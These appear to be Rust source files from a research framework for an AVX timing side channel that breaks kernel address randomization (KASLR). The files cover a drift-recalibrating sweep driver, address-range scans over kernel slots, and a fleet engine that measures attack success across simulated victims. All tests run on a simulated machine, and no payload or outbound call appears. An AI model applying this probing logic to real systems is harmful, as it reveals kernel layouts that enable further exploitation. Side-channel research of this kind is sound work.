    /// possibly refit.
    fn sweep_tile<P: Prober + ?Sized>(
        &mut self,
        p: &mut P,
        tile: &[VirtAddr],
        call_base: usize,
        out: &mut SweepClassification,
    ) {
        match self.attack.sampler {
            Some(sampler) => {
                let batch = sampler.classify_batch(p, self.attack.op, tile);
                out.probes += batch.total_probes();
                for (i, &addr) in tile.iter().enumerate() {
                    self.monitor
                        .observe(self.processed, addr, batch.samples[i], batch.settled[i]);
                    out.samples.push(batch.samples[i]);
                    out.mapped.push(batch.mapped[i]);
                    self.processed += 1;
                }
            }
            None => {
                let samples = self.attack.strategy.measure_batch(p, self.attack.op, tile);
                out.probes +=
                    tile.len() as u64 * u64::from(self.attack.strategy.probes_per_measurement());
                for (i, &addr) in tile.iter().enumerate() {
                    self.monitor.observe(self.processed, addr, samples[i], true);
                    out.samples.push(samples[i]);
                    out.mapped.push(self.attack.threshold.is_mapped(samples[i]));
                    self.processed += 1;
                }
            }
        }
        if self.events.len() < self.config.max_refits as usize {
            if let Some(signal) = self.monitor.check(self.attack.threshold.boundary()) {
                self.refit(p, signal, call_base, out);
            }
        }
    }

    /// Re-fits from the window, rebuilds the sampler, and (optionally)
    /// re-classifies the window's addresses under the new fit.
    fn refit<P: Prober + ?Sized>(
        &mut self,
        p: &mut P,
        signal: DriftSignal,
        call_base: usize,
        out: &mut SweepClassification,
    ) {
        let window = self.monitor.samples();
        // The EM re-fit recovers both band means and the live σ when
        // the window genuinely straddles both populations. Mid-ramp,
        // though, EM can "discover" two modes *inside* one noise band
        // (early tight samples vs late wide ones) and drag the
        // threshold into the unmapped band's tail — so the fit is only
        // trusted when its mapped mean lands near the *calibrated*
        // reference level (`self.reference`, never the previous refit:
        // successive artifacts must not compound into a random walk),
        // which is a stable microarchitectural constant: environment
        // drift widens the bands, it does not move them. Otherwise
        // (including the single-band window of a thin scan like the
        // KPTI trampoline hunt) the threshold stays put and only the σ
        // model is refreshed, from the freshest half of the window so
        // a still-running ramp is tracked rather than averaged away.
        let tolerance = (self.reference.margin / 2.0).max(2.0);
        let fit = Threshold::refit_bimodal(&window)
            .filter(|f| (f.threshold.value - self.reference.value).abs() <= tolerance)
            .unwrap_or(CalibrationFit {
                threshold: self.attack.threshold,
                sigma: self
                    .monitor
                    .fresh_sigma(self.attack.threshold.boundary())
                    .max(self.config.sigma_floor),
                estimator: "drift-sigma",
            });
        self.events.push(RecalEvent {
            at_address: self.processed,
            signal,
            threshold_before: self.attack.threshold,
            fit,
        });
        out.refits += 1;
        let targets = if self.config.rescan {
            self.monitor.rescan_targets(call_base)
        } else {
            Vec::new()
        };

        self.attack.threshold = fit.threshold;
        if let Some(old) = self.attack.sampler {
            // The single-σ-policy chokepoint: hypotheses *and*
            // likelihood σ both come from the new fit, budgets carry
            // over from the old sampler.
            self.attack.sampler = Sampling::Adaptive(old.config).sampler_from_fit(&fit);
        }
        self.monitor
            .note_refit(fit.sigma.max(self.config.sigma_floor));

        if targets.is_empty() {
            return;
        }
        // Rescan: the window's candidates were decided under the stale
        // fit while the drift built up — re-classify them with the
        // fresh one. Only entries of the *current* call can be patched
        // (earlier chunks of a streaming scan are already consumed).
        let addrs: Vec<VirtAddr> = targets.iter().map(|&(_, a)| a).collect();
        let redo = self.attack.sweep(p, &addrs);
        out.probes += redo.probes;
        for (t, &(index, _)) in targets.iter().enumerate() {
            let local = index - call_base;
            out.samples[local] = redo.samples[t];
            out.mapped[local] = redo.mapped[t];
        }
    }
}

/// Closed-loop companion for the level-signal (P3 / AMD) sweeps.
///
/// The AMD path has no threshold to re-fit — its post-hoc outlier split
/// happens after the sweep — but its min-filtered latency floors stop
/// being floors when the environment widens mid-scan. This driver
/// watches the windowed dispersion of the floors against the quietest
/// window seen so far and, on a shift, escalates the min-filter budget
/// (double `max_probes`, one more stable round) so later candidates buy
/// the extra evidence the noise demands.
#[derive(Clone, Debug)]
pub struct RecalibratingMinFilter {
    filter: AdaptiveMinFilter,
    config: RecalConfig,
    window: VecDeque<u64>,
    /// Quiet-phase reference dispersion, established from the first
    /// full window.
    baseline: Option<f64>,
    since_escalation: usize,
    escalations: u32,
    /// Reused MAD buffer (one dispersion check per probe tile).
    scratch: Vec<f64>,
}

/// Hard cap on the escalated min-filter width.
const MAX_ESCALATED_PROBES: u8 = 32;

impl RecalibratingMinFilter {
    /// Wraps a min-filter in the escalation loop.
    #[must_use]
    pub fn new(filter: AdaptiveMinFilter, config: RecalConfig) -> Self {
        Self {
            filter,
            config,
            window: VecDeque::with_capacity(config.window.max(1)),
            baseline: None,
            since_escalation: config.cooldown,
            escalations: 0,
            scratch: Vec::with_capacity(config.window.max(1)),
        }
    }

    /// Budget escalations performed so far.
    #[must_use]
    pub fn escalations(&self) -> u32 {
        self.escalations
    }

    /// The min-filter currently in effect.
    #[must_use]
    pub fn filter(&self) -> AdaptiveMinFilter {
        self.filter
    }

    /// Sweeps an [`AddrRange`] with the escalating min-filter; returns
    /// the floors and the raw probe count, like
    /// [`crate::LevelAttack::measure_range_counted`].
    pub fn measure_range<P: Prober + ?Sized>(
        &mut self,
        p: &mut P,
        range: &AddrRange,
    ) -> (Vec<u64>, u64) {
        let mut floors = Vec::with_capacity(range.len());
        let mut probes = 0u64;
        let mut tile = Vec::with_capacity(ProbeStrategy::BATCH_TILE);
        for chunk in range.tiles() {
            chunk.fill(&mut tile);
            let batch = self.filter.measure_batch(p, avx_uarch::OpKind::Load, &tile);
            probes += batch.total_probes();
            for &floor in &batch.mins {
                if self.window.len() >= self.config.window.max(1) {
                    self.window.pop_front();
                }
                self.window.push_back(floor);
                self.since_escalation = self.since_escalation.saturating_add(1);
            }
            floors.extend_from_slice(&batch.mins);
            self.maybe_escalate();
        }
        (floors, probes)
    }

    /// Establishes the baseline from the first full window, then
    /// escalates when a later window's dispersion exceeds the ratio.
    fn maybe_escalate(&mut self) {
        if self.window.len() < self.config.min_samples.max(1) {
            return;
        }
        let dispersion =
            mad_sigma_scratch(self.window.iter().map(|&x| x as f64), &mut self.scratch)
                .unwrap_or(0.0);
        let Some(baseline) = self.baseline else {
            if self.window.len() >= self.config.window.max(1) {
                self.baseline = Some(dispersion);
            }
            return;
        };
        if self.since_escalation < self.config.cooldown
            || self.escalations >= self.config.max_refits
        {
            return;
        }
        let limit = self.config.dispersion_ratio * baseline.max(self.config.sigma_floor);
        if dispersion > limit {
            self.filter.max_probes = self
                .filter
                .max_probes
                .saturating_mul(2)
                .min(MAX_ESCALATED_PROBES);
            self.filter.stable_rounds = self.filter.stable_rounds.saturating_add(1);
            self.baseline = Some(dispersion);
            self.since_escalation = 0;
            self.escalations += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::adaptive::AdaptiveSampler;
    use crate::primitives::PageTableAttack;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel, NoiseProfile, OpKind};

    fn addr(i: u64) -> VirtAddr {
        VirtAddr::new_truncate(0xffff_ffff_8000_0000 + i * 0x20_0000)
    }

    #[test]
    fn monitor_never_trips_on_constant_bands() {
        let mut monitor = DriftMonitor::new(RecalConfig::default(), 1.0);
        // A noiseless sweep: constant 107 unmapped with a constant 93
        // mapped run in the middle — both bands have zero MAD.
        for i in 0..400usize {
            let sample = if (180..205).contains(&i) { 93 } else { 107 };
            monitor.observe(i, addr(i as u64), sample, true);
            assert_eq!(monitor.check(100.0), None, "index {i}");
        }
        assert_eq!(monitor.band_dispersion(100.0), 0.0);
    }

    #[test]
    fn monitor_trips_within_one_window_of_a_sigma_step() {
        let config = RecalConfig::default();
        let mut monitor = DriftMonitor::new(config, 1.0);
        // Quiet phase: tight unmapped band.
        for i in 0..200usize {
            monitor.observe(i, addr(i as u64), 107 + (i as u64 % 3), true);
        }
        assert_eq!(monitor.check(100.0), None, "quiet phase must stay calm");
        // σ×6 step: the same band suddenly spreads ±12 cycles.
        let mut fired_at = None;
        for i in 200..200 + config.window {
            let wobble = (i as i64 * 7919) % 25 - 12; // deterministic ±12 spread
            let sample = (107 + wobble).max(101) as u64;
            monitor.observe(i, addr(i as u64), sample, true);
            if monitor.check(100.0).is_some() {
                fired_at = Some(i);
                break;
            }
        }
        let fired = fired_at.expect("σ×6 step must trip within one window");
        assert!(fired < 200 + config.window, "fired at {fired}");
        assert!(matches!(
            monitor.check(100.0),
            Some(DriftSignal::Dispersion { .. })
        ));
    }

    #[test]
    fn monitor_trips_on_forced_decision_pileup() {
        let config = RecalConfig::default();
        let mut monitor = DriftMonitor::new(config, 1.0);
        for i in 0..config.window {
            // Constant samples (no dispersion signal), but 40 % forced.
            monitor.observe(i, addr(i as u64), 107, i % 5 >= 2);
        }
        assert!(matches!(
            monitor.check(100.0),
            Some(DriftSignal::Unsettled { rate }) if rate > 0.25
        ));
    }

    #[test]
    fn refit_resets_the_window_and_baseline() {
        let mut monitor = DriftMonitor::new(RecalConfig::default(), 1.0);
        for i in 0..150usize {
            monitor.observe(i, addr(i as u64), 107 + (i as u64 % 13), true);
        }
        assert!(monitor.check(100.0).is_some());
        monitor.note_refit(6.0);
        assert_eq!(monitor.samples().len(), 0);
        // Fresh samples at the new σ stay inside the new baseline.
        for i in 150..320usize {
            monitor.observe(i, addr(i as u64), 107 + (i as u64 % 13), true);
            assert_eq!(monitor.check(100.0), None, "index {i}");
        }
    }

    #[test]
    fn noiseless_driver_is_bit_exact_with_the_open_loop() {
        let sys = LinuxSystem::build(LinuxConfig::seeded(9));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 9);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let range = crate::attacks::kaslr::KernelBaseFinder::candidate_range();

        let attack = PageTableAttack::new(th);
        let open = attack.sweep_range(&mut p, &range);
        let mut driver = Recalibrating::new(attack, RecalConfig::default());
        let closed = driver.sweep_range(&mut p, &range);
        assert_eq!(closed.refits, 0, "noiseless: trigger must not fire");
        assert_eq!(closed.samples, open.samples);
        assert_eq!(closed.mapped, open.mapped);
        assert_eq!(closed.probes, open.probes);
        assert!(driver.events().is_empty());
    }

    #[test]
    fn drifting_adaptive_scan_refits_and_recovers_the_base() {
        let sys = LinuxSystem::build(LinuxConfig::seeded(33));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 33);
        m.set_noise_profile(NoiseProfile::drift_quiet_to_laptop());
        let mut p = SimProber::new(m);
        let fit = Threshold::calibrate_with(
            &mut p,
            truth.user.calibration,
            16,
            crate::CalibratorKind::NoiseAware,
        );
        let attack =
            PageTableAttack::new(fit.threshold).with_adaptive(AdaptiveSampler::from_fit(&fit));
        let mut driver = Recalibrating::new(attack, RecalConfig::default());
        let sweep = driver.sweep_range(
            &mut p,
            &crate::attacks::kaslr::KernelBaseFinder::candidate_range(),
        );
        assert!(sweep.refits >= 1, "drift must trigger a refit");
        assert_eq!(sweep.refits, driver.refits());
        let event = driver.events()[0];
        assert!(matches!(event.signal, DriftSignal::Dispersion { .. }));
        // The new σ model reflects the drifted environment.
        assert!(
            event.fit.sigma > 2.0,
            "refit σ should see the widened noise: {}",
            event.fit.sigma
        );
        let _ = truth;
    }

    #[test]
    fn min_filter_driver_escalates_under_a_step_and_not_when_quiet() {
        // Quiet: floors are constant → never escalate.
        let sys = LinuxSystem::build(LinuxConfig::seeded(11));
        let (mut m, _) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), 11);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let mut driver =
            RecalibratingMinFilter::new(AdaptiveMinFilter::default(), RecalConfig::default());
        let range = crate::attacks::kaslr::KernelBaseFinder::candidate_range();
        let (floors, probes) = driver.measure_range(&mut p, &range);
        assert_eq!(floors.len(), 512);
        assert!(probes > 0);
        assert_eq!(driver.escalations(), 0);

        // A σ step mid-scan escalates the budget.
        let sys = LinuxSystem::build(LinuxConfig::seeded(11));
        let (mut m, _) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), 11);
        m.set_noise_profile(NoiseProfile::drift_with(
            NoiseProfile::Quiet,
            NoiseProfile::LaptopDvfs,
            1024,
            1024,
        ));
        let mut p = SimProber::new(m);
        let before = AdaptiveMinFilter::default();
        let mut driver = RecalibratingMinFilter::new(before, RecalConfig::default());
        let _ = driver.measure_range(&mut p, &range);
        assert!(driver.escalations() >= 1, "step must escalate the budget");
        assert!(driver.filter().max_probes > before.max_probes);
    }

    #[test]
    fn rescan_patches_only_the_current_call() {
        // Chunked driving (the Windows shape): state persists across
        // calls, and a refit in chunk 2 cannot touch chunk 1's output.
        let sys = LinuxSystem::build(LinuxConfig::seeded(44));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 44);
        m.set_noise_profile(NoiseProfile::drift_quiet_to_laptop());
        let mut p = SimProber::new(m);
        let fit = Threshold::calibrate_with(
            &mut p,
            truth.user.calibration,
            16,
            crate::CalibratorKind::NoiseAware,
        );
        let attack =
            PageTableAttack::new(fit.threshold).with_adaptive(AdaptiveSampler::from_fit(&fit));
        let mut driver = Recalibrating::new(attack, RecalConfig::default());
        let range = crate::attacks::kaslr::KernelBaseFinder::candidate_range();
        let mut total = 0u32;
        for chunk in range.chunks(128) {
            let sweep = driver.sweep_range(&mut p, &chunk);
            assert_eq!(sweep.mapped.len(), 128);
            total += sweep.refits;
        }
        assert_eq!(total, driver.refits());
        assert!(driver.refits() >= 1);
    }

    #[test]
    fn sweep_slice_and_range_agree() {
        let sys = LinuxSystem::build(LinuxConfig::seeded(7));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 7);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let range = AddrRange::new(addr(0), 0x20_0000, 64);
        let attack = PageTableAttack::new(th);
        let a = Recalibrating::new(attack, RecalConfig::default()).sweep_range(&mut p, &range);
        let b = Recalibrating::new(attack, RecalConfig::default()).sweep(&mut p, &range.to_vec());
        assert_eq!(a.samples, b.samples);
        assert_eq!(a.mapped, b.mapped);
        assert_eq!(a.probes, b.probes);
        let _ = OpKind::Load;
    }
}
