//! Address-range sweeps: the shape shared by every scan attack.
//!
//! Fig. 4 (512 × 2 MiB kernel slots), Fig. 5 (16384 × 4 KiB module
//! pages), Fig. 7 (user pages) and the §IV-G Windows region scan all
//! walk an arithmetic progression of candidate addresses and time one
//! masked op per candidate. [`AddrRange`] describes such a progression;
//! its iterators feed [`crate::ProbeStrategy::measure_batch`] so the
//! probe backend sees whole batches instead of one address at a time.
//!
//! ```
//! use avx_channel::AddrRange;
//! use avx_mmu::VirtAddr;
//!
//! // The Fig. 4 candidate set: 512 slots at 2 MiB stride.
//! let range = AddrRange::new(
//!     VirtAddr::new_truncate(0xffff_ffff_8000_0000),
//!     2 * 1024 * 1024,
//!     512,
//! );
//! assert_eq!(range.len(), 512);
//! assert_eq!(range.addr(1).as_u64() - range.addr(0).as_u64(), 0x20_0000);
//! // Chunked iteration is what the batched probe pipeline consumes.
//! assert_eq!(range.chunks(16).count(), 32);
//! ```

use avx_mmu::VirtAddr;

/// An arithmetic progression of candidate addresses.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct AddrRange {
    /// First candidate.
    pub start: VirtAddr,
    /// Distance between candidates in bytes.
    pub stride: u64,
    /// Number of candidates.
    pub count: u64,
}

impl AddrRange {
    /// A range of `count` candidates at `stride` from `start`.
    #[must_use]
    pub fn new(start: VirtAddr, stride: u64, count: u64) -> Self {
        Self {
            start,
            stride,
            count,
        }
    }

    /// A range of 4 KiB-aligned pages.
    #[must_use]
    pub fn pages(start: VirtAddr, count: u64) -> Self {
        Self::new(start, 4096, count)
    }

    /// The `i`-th candidate address (wrapping).
    #[must_use]
    pub fn addr(&self, i: u64) -> VirtAddr {
        self.start.wrapping_add(i.wrapping_mul(self.stride))
    }

    /// Number of candidates as `usize`.
    #[must_use]
    pub fn len(&self) -> usize {
        usize::try_from(self.count).expect("sweep fits in memory")
    }

    /// `true` for an empty range.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Iterates the candidate addresses.
    pub fn iter(&self) -> impl Iterator<Item = VirtAddr> + '_ {
        (0..self.count).map(|i| self.addr(i))
    }

    /// Materializes all candidates. Full-series scans no longer need
    /// this — they stream tiles via [`AddrRange::fill`] — but tests and
    /// ad-hoc callers keep the convenience.
    #[must_use]
    pub fn to_vec(&self) -> Vec<VirtAddr> {
        self.iter().collect()
    }

    /// Replaces the contents of `out` with the candidate addresses —
    /// the streaming alternative to [`AddrRange::to_vec`]: sweeps reuse
    /// one tile-sized buffer instead of materializing the whole range.
    pub fn fill(&self, out: &mut Vec<VirtAddr>) {
        out.clear();
        out.extend(self.iter());
    }

    /// Splits the range into consecutive sub-ranges of at most
    /// `chunk` candidates — the streaming shape used by early-exit
    /// scans (Windows §IV-G), which probe chunk by chunk and stop as
    /// soon as the target pattern is confirmed.
    pub fn chunks(&self, chunk: u64) -> impl Iterator<Item = AddrRange> + '_ {
        assert!(chunk > 0, "chunk must be positive");
        (0..self.count.div_ceil(chunk)).map(move |c| {
            let first = c * chunk;
            AddrRange::new(self.addr(first), self.stride, chunk.min(self.count - first))
        })
    }

    /// The probe-pipeline tile decomposition:
    /// [`AddrRange::chunks`] at
    /// [`crate::ProbeStrategy::BATCH_TILE`]-sized steps. Every sweep
    /// engine — fixed, adaptive, and the closed-loop
    /// [`crate::recal::Recalibrating`] driver — iterates this exact
    /// shape, which is what makes their probe orders (and therefore
    /// their noise streams) interchangeable.
    pub fn tiles(&self) -> impl Iterator<Item = AddrRange> + '_ {
        self.chunks(crate::prober::ProbeStrategy::BATCH_TILE as u64)
    }
}

impl IntoIterator for &AddrRange {
    type Item = VirtAddr;
    type IntoIter = std::vec::IntoIter<VirtAddr>;
    fn into_iter(self) -> Self::IntoIter {
        self.to_vec().into_iter()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_step_by_stride() {
        let r = AddrRange::new(VirtAddr::new_truncate(0x1000), 0x2000, 4);
        let addrs: Vec<u64> = r.iter().map(VirtAddr::as_u64).collect();
        assert_eq!(addrs, vec![0x1000, 0x3000, 0x5000, 0x7000]);
        assert_eq!(r.len(), 4);
        assert!(!r.is_empty());
    }

    #[test]
    fn chunking_covers_exactly_once() {
        let r = AddrRange::pages(VirtAddr::new_truncate(0x7f00_0000_0000), 10);
        let chunks: Vec<AddrRange> = r.chunks(4).collect();
        assert_eq!(chunks.len(), 3);
        assert_eq!(chunks[0].count, 4);
        assert_eq!(chunks[2].count, 2);
        let flat: Vec<VirtAddr> = chunks.iter().flat_map(|c| c.to_vec()).collect();
        assert_eq!(flat, r.to_vec());
    }

    #[test]
    fn empty_range_has_no_chunks() {
        let r = AddrRange::pages(VirtAddr::new_truncate(0), 0);
        assert!(r.is_empty());
        assert_eq!(r.chunks(8).count(), 0);
        assert!(r.to_vec().is_empty());
        assert_eq!(r.len(), 0);
    }

    #[test]
    fn chunk_sizes_at_and_above_count_yield_one_chunk() {
        let r = AddrRange::pages(VirtAddr::new_truncate(0x1000), 5);
        // chunk == count: exactly one full chunk.
        let exact: Vec<AddrRange> = r.chunks(5).collect();
        assert_eq!(exact.len(), 1);
        assert_eq!(exact[0].count, 5);
        // chunk > count: one short chunk, nothing invented.
        let over: Vec<AddrRange> = r.chunks(64).collect();
        assert_eq!(over.len(), 1);
        assert_eq!(over[0].count, 5);
        assert_eq!(over[0].to_vec(), r.to_vec());
        // chunk == 1: count chunks of one candidate each.
        assert_eq!(r.chunks(1).count(), 5);
    }

    #[test]
    fn non_dividing_chunks_partition_without_overlap() {
        // Every (count, chunk) pair must partition the range exactly —
        // the Windows streaming scan depends on no candidate being
        // probed twice or skipped at chunk seams.
        for count in [1u64, 2, 7, 16, 17, 31] {
            for chunk in [1u64, 2, 3, 5, 16] {
                let r = AddrRange::new(VirtAddr::new_truncate(0x7f00_0000_0000), 0x2000, count);
                let chunks: Vec<AddrRange> = r.chunks(chunk).collect();
                assert_eq!(
                    chunks.len() as u64,
                    count.div_ceil(chunk),
                    "{count}/{chunk}"
                );
                let flat: Vec<VirtAddr> = chunks.iter().flat_map(|c| c.to_vec()).collect();
                assert_eq!(flat, r.to_vec(), "{count}/{chunk}");
                assert!(chunks.iter().all(|c| c.count > 0), "{count}/{chunk}");
            }
        }
    }

    #[test]
    #[should_panic(expected = "chunk must be positive")]
    fn zero_chunk_size_is_rejected() {
        let r = AddrRange::pages(VirtAddr::new_truncate(0x1000), 4);
        let _ = r.chunks(0).count();
    }

    #[test]
    fn stride_across_the_canonical_boundary_sign_extends() {
        // A sweep that runs past the top of the user half lands on
        // canonical kernel-half addresses (bit 47 sign-extended), not on
        // non-canonical garbage — and chunking still covers the range
        // exactly once.
        let r = AddrRange::pages(VirtAddr::new_truncate(0x0000_7fff_ffff_e000), 4);
        let addrs: Vec<u64> = r.iter().map(VirtAddr::as_u64).collect();
        assert_eq!(addrs[0], 0x0000_7fff_ffff_e000);
        assert_eq!(addrs[1], 0x0000_7fff_ffff_f000);
        assert_eq!(addrs[2], 0xffff_8000_0000_0000, "sign-extended");
        assert_eq!(addrs[3], 0xffff_8000_0000_1000);
        assert!(VirtAddr::new_truncate(addrs[2]).is_kernel_half());
        let flat: Vec<VirtAddr> = r.chunks(3).flat_map(|c| c.to_vec()).collect();
        assert_eq!(flat, r.to_vec());
    }

    #[test]
    fn index_times_stride_overflow_wraps_instead_of_panicking() {
        // i × stride can exceed u64 for pathological strides; addr() is
        // documented as wrapping, so the sweep stays total.
        let r = AddrRange::new(VirtAddr::new_truncate(0x1000), u64::MAX / 2, 5);
        let addrs: Vec<VirtAddr> = r.iter().collect();
        assert_eq!(addrs.len(), 5);
        // Explicit wrap check: 2 × (u64::MAX/2) wraps to u64::MAX - 1.
        let expected =
            VirtAddr::new_truncate(0x1000u64.wrapping_add((u64::MAX / 2).wrapping_mul(2)));
        assert_eq!(r.addr(2), expected);
    }
}
