//! Fleet campaign engine — streaming population sweeps at 10⁵–10⁶
//! victims.
//!
//! The classic [`crate::attacks::campaign::Campaign`] runs a fixed
//! trial grid and collects every
//! [`crate::attacks::campaign::CampaignRow`] in memory; attack
//! feasibility at production scale must instead be judged over very
//! large measurement *populations* (NetSpectre-style: single-digit-n
//! cells carry ±4 pp binomial noise). This module is the scale-out
//! layer:
//!
//! * **Deterministic per-victim RNG streams.** Every seed a fleet uses
//!   is derived through one SplitMix64 chokepoint, [`victim_seed`], so
//!   any shard — and any single victim — is independently reproducible
//!   in isolation ([`Fleet::run_victim`]). The historical campaign
//!   derivations stay bit-compatible through the [`legacy_trial_seed`]
//!   / [`machine_seed`] shims, which the classic campaign paths now
//!   route through.
//! * **Sharded work-stealing execution.** Victims are partitioned into
//!   contiguous shards (default [`FleetConfig::DEFAULT_SHARD_SIZE`])
//!   fanned out over rayon. All shards share one copy-on-write
//!   [`TrialFixture`] pool: the PR 3 snapshot machinery makes each
//!   per-victim address space an O(1) clone of a pooled layout, so a
//!   million victims never build a million systems. Fixtures are never
//!   mutated (ARCHITECTURE.md invariant 5).
//! * **Streaming incremental aggregation.** Each shard folds its
//!   victims into a [`FleetReducer`] — hits, probes, per-victim
//!   probe-count moments, accuracy, and the confirmation
//!   confidence-tag histogram — whose [`FleetReducer::merge`] is
//!   associative *and* commutative to the bit (the moments ride on
//!   exact integer sums, see [`MomentSum`]). Memory is O(shards),
//!   never O(victims); no per-victim row is ever collected.
//! * **Checkpoint/resume.** With [`FleetConfig::checkpoint`] set, the
//!   merged reducer state plus the completed-shard bitmap is written
//!   to a versioned JSON file (atomic rename) after every shard, so a
//!   killed multi-hour run resumes where it stopped — and because the
//!   merge is order-independent and exact, a kill-and-resume run
//!   produces a **bit-identical** final aggregate.
//!
//! ```
//! use avx_channel::attacks::campaign::{CampaignConfig, Scenario};
//! use avx_channel::fleet::{Fleet, FleetConfig};
//! use avx_uarch::CpuProfile;
//!
//! let fleet = Fleet::new(
//!     Scenario::KernelBase,
//!     CpuProfile::alder_lake_i5_12400f(),
//!     CampaignConfig::default(),
//!     FleetConfig::new(64).with_shards(4),
//! );
//! let report = fleet.run().unwrap();
//! assert_eq!(report.aggregate.victims, 64);
//! assert!(report.aggregate.accuracy().rate() > 0.8);
//! ```

use core::fmt;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::Instant;

use rayon::prelude::*;

use avx_uarch::CpuProfile;

use crate::attacks::campaign::{CampaignConfig, Scenario, TrialFixture, TrialOutcome};
use crate::attacks::KptiConfidence;
use crate::stats::Trials;

// ---------------------------------------------------------------------
// Seed derivation — the single chokepoint.

/// SplitMix64 increment (Weyl constant), also the stream-mixing salt.
const SPLITMIX_GAMMA: u64 = 0x9E37_79B9_7F4A_7C15;

/// One SplitMix64 output step: finalizes `state + γ` through the
/// Stafford mix. Deterministic, stateless, and well-distributed even
/// for sequential inputs — which is exactly what per-victim indices
/// are.
#[must_use]
pub fn splitmix64(state: u64) -> u64 {
    let mut z = state.wrapping_add(SPLITMIX_GAMMA);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// The fleet seed-derivation chokepoint: the layout/trial seed of
/// victim `victim_idx` in scenario stream `scenario_id` of the
/// campaign seeded `campaign_seed`.
///
/// Two SplitMix64 finalizations — one keying the (campaign, scenario)
/// stream, one keying the victim index into it — so neighbouring
/// victim indices land in decorrelated RNG streams while any single
/// victim's seed is recomputable from the three coordinates alone.
/// Scenarios use [`Scenario::seed_salt`] as their stream id.
#[must_use]
pub fn victim_seed(campaign_seed: u64, scenario_id: u64, victim_idx: u64) -> u64 {
    let stream = splitmix64(campaign_seed ^ scenario_id.wrapping_mul(SPLITMIX_GAMMA));
    splitmix64(stream ^ victim_idx)
}

/// Bit-compatibility shim for the historical campaign derivation:
/// trial *i* of a scenario uses layout seed `seed0 + salt + i`. Every
/// pre-fleet golden row is a function of this exact arithmetic, so the
/// classic [`Scenario::campaign`] paths route through it verbatim
/// (wrapping, like the original release-mode arithmetic).
#[must_use]
pub fn legacy_trial_seed(seed0: u64, scenario_salt: u64, trial_idx: u64) -> u64 {
    seed0.wrapping_add(scenario_salt).wrapping_add(trial_idx)
}

/// Bit-compatibility shim for the historical machine-seed derivation:
/// the per-trial machine (noise RNG) seed is the trial seed XOR
/// `0xabcd`. Kept in one place so the layout-seed and noise-seed
/// streams can never silently diverge between the fleet and the
/// classic campaign paths.
#[must_use]
pub fn machine_seed(trial_seed: u64) -> u64 {
    trial_seed ^ 0xabcd
}

// ---------------------------------------------------------------------
// Exact-merge moment accumulator.

/// Welford-style running moments over `u64` samples, carried as exact
/// integer sums so that [`MomentSum::merge`] is associative and
/// commutative *to the bit* — the property the fleet's shard-count
/// invariance and checkpoint/resume bit-identity rest on. (A floating
/// Welford merge is only approximately associative; `Σx` and `Σx²` in
/// `u128` are exact up to 10⁶ victims × 10⁶ probes each, far beyond
/// any fleet this engine runs.) Mean and σ are derived on demand.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct MomentSum {
    n: u64,
    sum: u128,
    sumsq: u128,
    min: u64,
    max: u64,
}

impl Default for MomentSum {
    fn default() -> Self {
        Self {
            n: 0,
            sum: 0,
            sumsq: 0,
            min: u64::MAX,
            max: 0,
        }
    }
}

impl MomentSum {
    /// Empty accumulator.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds one sample.
    pub fn push(&mut self, x: u64) {
        self.n += 1;
        self.sum += u128::from(x);
        self.sumsq += u128::from(x) * u128::from(x);
        self.min = self.min.min(x);
        self.max = self.max.max(x);
    }

    /// Merges another accumulator in — exact, order-independent.
    pub fn merge(&mut self, other: &Self) {
        self.n += other.n;
        self.sum += other.sum;
        self.sumsq += other.sumsq;
        self.min = self.min.min(other.min);
        self.max = self.max.max(other.max);
    }

    /// Number of samples.
    #[must_use]
    pub fn count(&self) -> u64 {
        self.n
    }

    /// Sample mean (0 when empty).
    #[must_use]
    pub fn mean(&self) -> f64 {
        if self.n == 0 {
            0.0
        } else {
            self.sum as f64 / self.n as f64
        }
    }

    /// Population variance (0 with < 2 samples).
    #[must_use]
    pub fn variance(&self) -> f64 {
        if self.n < 2 {
            return 0.0;
        }
        let mean = self.mean();
        (self.sumsq as f64 / self.n as f64 - mean * mean).max(0.0)
    }

    /// Population standard deviation.
    #[must_use]
    pub fn stddev(&self) -> f64 {
        self.variance().sqrt()
    }

    /// Smallest sample (`None` when empty).
    #[must_use]
    pub fn min(&self) -> Option<u64> {
        (self.n > 0).then_some(self.min)
    }

    /// Largest sample (`None` when empty).
    #[must_use]
    pub fn max(&self) -> Option<u64> {
        (self.n > 0).then_some(self.max)
    }
}

// ---------------------------------------------------------------------
// The streaming reducer.

/// Incremental aggregate of a victim population — the only aggregation
/// site of the fleet engine (ARCHITECTURE.md invariant 11). All fields
/// are integers, so [`FleetReducer::merge`] is exact, associative and
/// commutative: N victims reduced on one shard, K shards, or across a
/// kill-and-resume boundary produce bit-identical state.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct FleetReducer {
    /// Victims swept.
    pub victims: u64,
    /// Successful accuracy records across the population.
    pub hits: u64,
    /// Total accuracy records (per victim for base attacks, per
    /// module/library/sample otherwise — same semantics as
    /// [`crate::attacks::campaign::CampaignRow`]).
    pub records: u64,
    /// Raw probes issued across the population (calibration included).
    pub probes: u64,
    /// Candidate addresses covered across the population.
    pub addresses: u64,
